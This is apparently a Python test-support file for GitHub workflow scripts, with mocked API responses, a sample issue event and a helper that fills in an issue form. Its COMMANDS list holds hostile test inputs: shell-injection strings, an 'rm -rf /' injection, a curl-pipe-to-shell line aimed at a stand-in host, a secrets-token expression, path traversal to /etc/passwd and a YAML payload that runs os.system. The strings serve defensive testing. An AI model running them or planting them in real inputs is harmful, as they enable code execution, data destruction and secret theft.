"""What GitHub tells and answers in the tests of the scripts of the workflows."""

from typing import Any

from tests.support.golden_files import load_tables

TABLES = load_tables("workflow_samples")

COMMIT = "a" * 40
FORM: str = TABLES["form"]

ANSWERS: dict[str, object] = {
    r"^GET git/matching-refs/": [],
    r"^GET git/ref/heads/voorstel/": 404,
    r"^GET git/ref/heads/": {"object": {"sha": COMMIT}},
    r"^GET git/commits/": {"tree": {"sha": "b" * 40}},
    r"^POST git/": {"sha": "c" * 40},
    r"^GET collaborators/[^/]+/permission$": {"permission": "write", "role_name": "maintain"},
    r"^GET issues/\d+$": {"body": FORM, "state": "open", "labels": [{"name": "goedgekeurd"}]},
    r"^POST /graphql$": {"data": {"repository": {"issue": {"lastEditedAt": None}}}},
    r"^GET issues": [],
    r"^GET pulls\?": [],
    r"^POST pulls$": {"number": 8, "html_url": "https://github.com/organisatie/dossier/pull/8"},
}

EVENT: dict[str, Any] = {
    "issue": {"number": 12, "body": FORM, "updated_at": "2026-11-21T10:00:00Z"},
    "sender": {"login": "beheerder"},
}
"""What starts the workflow `proposal`."""

HOSTILE = [*TABLES["hostile"], "\x00\x1b[31mrood\x1b[0m \u202eomgekeerd\u2066 \ud800"]

COMMANDS = [
    "$(touch x)",
    "`id`",
    "'; rm -rf / #",
    '" && curl https://elders.example | sh',
    "${{ secrets.GITHUB_TOKEN }}",
    "../../../etc/passwd",
    "..\\..\\x",
    "a\x00b",
    "-rf",
    "CON",
    "x: !!python/object/apply:os.system [id]",
    "- a\n- b",
    "publiceren: true\nrechten: overheid",
    "&anker *anker",
    "%TAG ! tag:elders.example",
    "🦊" * 50,
    "a" * 5000,
]


def filled(**answers: str) -> str:
    """Return the form, with other answers to some of its questions."""
    text = FORM
    for label, answer in answers.items():
        before, heading, rest = text.partition(f"### {label}")
        question, _, after = rest.partition("\n\n")
        _, end, others = after.partition("\n\n### ")
        text = f"{before}{heading}{question}\n\n{answer}{end or chr(10)}{others}"
    return text
